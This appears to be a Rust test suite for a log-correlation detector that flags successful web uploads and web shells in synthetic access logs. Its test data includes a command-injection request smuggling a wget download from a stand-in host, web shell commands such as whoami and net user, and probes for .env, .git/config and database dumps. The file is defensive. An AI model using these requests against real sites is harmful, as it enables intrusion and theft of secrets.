//! Scripts among uploads: what is said of those in use, and not of a site that says the same to everything, nor of a
//! script of its own.
#![expect(clippy::indexing_slicing, reason = "a test that cannot go on says where")]

#[path = "replay/run.rs"]
mod run;

use sancha_model::{Outcome, Scenario};

use run::{Order, correlate};

/// One request: its second, who, method and path, status and bytes.
type Ask<'a> = (u32, &'a str, &'a str, u16, u32);

fn log(asks: &[Ask<'_>]) -> String {
    let mut asks = asks.to_vec();
    asks.sort_by_key(|(second, ..)| *second);
    let line = |(second, source, asked, status, bytes): &Ask<'_>| {
        let (day, hour, minute) = (4 + second / 86_400, second / 3_600 % 24, second / 60 % 60);
        let clock = format!("{hour:02}:{minute:02}:{:02}", second % 60);
        format!(
            "{source} - - [{day:02}/Nov/2026:{clock} +0000] \"{asked} HTTP/1.1\" {status} {bytes} \"-\" \"Mozilla/5.0\"\n"
        )
    };
    asks.iter().map(line).collect()
}

/// Findings of uploads and of web shells, in the order of their kinds.
fn told(asks: &[Ask<'_>]) -> Vec<(Scenario, Outcome)> {
    told_of(asks, &[Scenario::WEB_UPLOAD, Scenario::WEB_SHELL])
}

fn told_of(asks: &[Ask<'_>], asked: &[Scenario]) -> Vec<(Scenario, Outcome)> {
    let [told, lagging, backwards] =
        [Order::Together, Order::GroupsLag, Order::Backwards].map(|order| {
            let found = correlate(&log(asks), 64 << 20, order).findings;
            let mut told: Vec<_> = found
                .iter()
                .filter(|finding| asked.contains(&finding.scenario))
                .map(|finding| (finding.scenario, finding.outcome))
                .collect();
            told.sort();
            told
        });
    assert_eq!(told, lagging);
    assert_eq!(told, backwards);
    told
}

const INTRUDER: &str = "61.160.224.9";

/// A search, an upload and two uses; `answer` says what the site gives to each path.
fn searched(answer: &dyn Fn(&str) -> (u16, u32)) -> Vec<Ask<'static>> {
    let paths = [
        "GET /.env",
        "GET /.git/config",
        "GET /actuator/env",
        "GET /backup.zip",
        "GET /www.tar.gz",
        "GET /db.sql",
        "GET /phpinfo.php",
        "POST /upload.php",
        "GET /uploads/2.php",
        "POST /uploads/2.php",
    ];
    let ask = |(second, path): (u32, &'static str)| {
        let (status, bytes) = answer(path);
        (second, INTRUDER, path, status, bytes)
    };
    (10_000..).zip(paths).map(ask).collect()
}

#[test]
fn a_page_that_answers_everything_shows_no_use() {
    let used = [
        (Scenario::WEB_UPLOAD, Outcome::LikelySucceeded),
        (Scenario::WEB_SHELL, Outcome::LikelySucceeded),
    ];
    assert_eq!(
        told(&searched(&|_| (200, 1_523))),
        [(Scenario::WEB_SHELL, Outcome::NotDeterminable)]
    );
    // The same search at a site that has none of it, and at one that says so to everything but the script.
    let is_sent = |path: &str| path.contains("upload");
    assert_eq!(
        told(&searched(&|path| if is_sent(path) { (200, 1_523) } else { (404, 153) })),
        used
    );
    let is_script = |path: &str| path.starts_with("POST /uploads/");
    assert_eq!(
        told(&searched(&|path| if is_script(path) { (200, 88) } else { (200, 1_523) })),
        used
    );
}

#[test]
fn a_script_that_all_visitors_read_is_the_sites_own() {
    let visitors: Vec<String> = (1..=40).map(|n| format!("36.1.{n}.7")).collect();
    let visit = |(second, source): (u32, &'_ String), paths: [&'static str; 2]| {
        let source: &'static str = source.clone().leak();
        let ask = move |path| (second * 100, source, path, 200, 5_000 + second);
        paths.map(ask)
    };
    let thumbs = ["POST /member/upload.php", "GET /uploads/thumb.php?src=a.jpg"];
    let of = |count: usize| -> Vec<Ask<'static>> {
        (1..).zip(&visitors).take(count).flat_map(|one| visit(one, thumbs)).collect()
    };
    assert_eq!(told(&of(40)), []);
    // Few share a shell.
    assert!(told(&of(6)).len() >= 6);
    // Who writes to it does not read a thumbnail, and the script beside it is another.
    let mut used = of(40);
    used.push((9_000, INTRUDER, "POST /uploads/thumb.php", 200, 77));
    used.push((9_001, "61.160.224.10", "GET /uploads/x.php?c=1", 200, 77));
    used.push((8_990, INTRUDER, "POST /upload.php", 200, 31));
    assert_eq!(told(&used)[0], (Scenario::WEB_UPLOAD, Outcome::LikelySucceeded));
    let shells = told(&used).iter().filter(|(kind, _)| *kind == Scenario::WEB_SHELL).count();
    assert_eq!(shells, 2);
}

const INJECTED: &str = "POST /report.do?to=a;wget%20http://198.51.100.9/a%20-O%20b";
const LEFT: &str = "POST /office/qwe123.jsp";

/// A site with visitors, a command injected into it, and what follows: who, pause in seconds, path and bytes.
/// What is said of web shells.
fn after_command(status: u16, left: &[(&'static str, u32, &'static str, u32)]) -> Vec<Outcome> {
    let visitors: Vec<String> = (1..200).map(|n| format!("36.1.{n}.7")).collect();
    let visit = |(second, source): (u32, &String)| {
        let source: &'static str = source.clone().leak();
        (second, source, "GET /office/main.do?method=main", 200, 5_000 + second)
    };
    let mut asks: Vec<Ask<'static>> = (1..).zip(&visitors).map(visit).collect();
    // What visits teach is known when they are over.
    asks.push((9_000, "36.1.2.7", "GET /office/main.do", 200, 5_000));
    asks.push((10_000, INTRUDER, INJECTED, status, 312));
    let mut second = 10_010;
    for (source, pause, path, bytes) in left {
        second += pause;
        asks.push((second, source, path, 200, *bytes));
    }
    let found = told_of(&asks, &[Scenario::WEB_SHELL]);
    found.into_iter().map(|(_, outcome)| outcome).collect()
}

fn commands(
    source: &'static str,
    pause: u32,
    path: &'static str,
) -> [(&'static str, u32, &'static str, u32); 6] {
    [112, 980, 4_312, 112, 240, 16_000].map(|bytes| (source, pause, path, bytes))
}

#[test]
fn a_program_that_only_an_attacker_uses_is_told() {
    let used = commands(INTRUDER, 7, LEFT);
    for status in [200, 500] {
        assert_eq!(after_command(status, &used), [Outcome::LikelySucceeded], "{status}");
    }
    // The attack was refused.
    assert_eq!(after_command(404, &used), []);
    // Too few, too fast, by somebody else, of a page that was there before, or always the same answer.
    assert_eq!(after_command(200, &used[..4]), []);
    assert_eq!(after_command(200, &commands(INTRUDER, 0, LEFT)), []);
    assert_eq!(after_command(200, &commands("36.1.2.8", 7, LEFT)), []);
    assert_eq!(after_command(200, &commands(INTRUDER, 7, "POST /office/main.do")), []);
    let same = used.map(|(source, pause, path, _)| (source, pause, path, 88));
    assert_eq!(after_command(200, &same), []);
    // Others ask for it as well.
    let others = ["36.1.2.1", "36.1.2.2", "36.1.2.3"].map(|source| (source, 1, LEFT, 500));
    assert_eq!(after_command(200, &[&used[..], &others].concat()), []);
}

#[test]
fn a_file_that_answers_what_is_sent_to_it_is_told() {
    let used = commands(INTRUDER, 7, "POST /favicondemo.ico");
    assert_eq!(after_command(200, &used), [Outcome::LikelySucceeded]);
    assert_eq!(after_command(404, &used), [Outcome::NotDeterminable]);
    // It is read by visitors, too, and a counter gives the same picture to everything.
    let read = (1..9).map(|_| ("36.1.2.1", 1, "GET /favicondemo.ico", 500));
    let read: Vec<_> = read.collect();
    assert_eq!(after_command(200, &[&used[..], &read].concat()), [Outcome::LikelySucceeded]);
    let same = used.map(|(source, pause, path, _)| (source, pause, path, 43));
    assert_eq!(after_command(200, &same), []);
    // A service that many send to, and go on to.
    let senders = ["36.1.2.1", "36.1.2.2", "36.1.2.3", "36.1.2.4"];
    let many = senders.map(|source| commands(source, 7, "POST /favicondemo.ico")).concat();
    assert_eq!(after_command(404, &[&many[..], &many, &used].concat()), []);
}

#[test]
fn commands_that_a_new_script_answers_are_told() {
    let asks = [
        (INTRUDER, 7, "GET /office/s.jsp?cmd=whoami", 30),
        (INTRUDER, 7, "GET /office/s.jsp?cmd=ipconfig", 1_300),
        (INTRUDER, 7, "GET /office/s.jsp?cmd=net+user", 600),
    ];
    assert!(after_command(200, &asks).contains(&Outcome::LikelySucceeded));
    // Two are no use, and one page for everything shows none.
    assert!(!after_command(200, &asks[..2]).contains(&Outcome::LikelySucceeded));
    let same = asks.map(|(source, pause, path, _)| (source, pause, path, 88));
    assert!(!after_command(200, &same).contains(&Outcome::LikelySucceeded));
}

#[test]
fn attackers_of_days_before_make_room() {
    let attackers: Vec<String> =
        (0..4_200).map(|n| format!("36.2.{}.{}", n / 200, n % 200 + 1)).collect();
    let attack = |(second, source): (u32, &String)| {
        let source: &'static str = source.clone().leak();
        (second, source, INJECTED, 200, 312)
    };
    let mut asks: Vec<Ask<'static>> = (1_000..).zip(&attackers).map(attack).collect();
    let visit = |n: u32| {
        let source: &'static str = format!("36.1.{n}.7").leak();
        (n, source, "GET /office/main.do?method=main", 200, 5_000 + n)
    };
    asks.extend((1..200).map(visit));
    for later in [10_000, 3 * 86_400] {
        let mut asks = asks.clone();
        asks.push((later, INTRUDER, INJECTED, 200, 312));
        let used = commands(INTRUDER, 0, LEFT);
        asks.extend(
            (1..)
                .zip(used)
                .map(|(n, (source, _, path, bytes))| (later + 9 * n, source, path, 200, bytes)),
        );
        let told = told_of(&asks, &[Scenario::WEB_SHELL]);
        assert_eq!(told.len(), usize::from(later > 86_400), "{told:?}");
    }
}
